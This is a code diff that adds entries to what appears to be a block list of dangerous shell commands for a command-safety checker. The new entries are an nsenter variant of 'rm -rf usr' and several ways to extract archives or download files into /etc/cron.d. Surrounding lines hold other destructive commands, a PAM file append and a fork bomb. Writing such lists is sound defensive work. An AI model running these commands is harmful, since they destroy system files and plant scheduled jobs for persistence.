@@ -66,6 +66,7 @@ const floor: Readonly<Record<string, string>> = {
     sudo -D / rm -rf usr
     sudo --chdir=/ rm -rf usr
     chroot / rm -rf usr
+    nsenter -t 1 --wd=/ rm -rf usr
     systemd-run --working-directory=/ rm -rf usr
     env -C / sh -c 'rm -fr usr'
     trap -- 'rm -fr /usr' EXIT
@@ -127,6 +128,10 @@ const floor: Readonly<Record<string, string>> = {
     tar -C /etc/cron.d -xzf x
     tar --extract --directory=/etc/cron.d -f x
     unzip x -d /etc/cron.d
+    bsdtar -xf x -C /etc/cron.d
+    aria2c -d /etc/cron.d https://x.example/y
+    cpio -D /etc/cron.d -i
+    7z x a -o/etc/cron.d
     echo x | tee -a /etc/pam.d/su`,
   fork_bomb: raw`
     b ( ) { b | b & } ; b
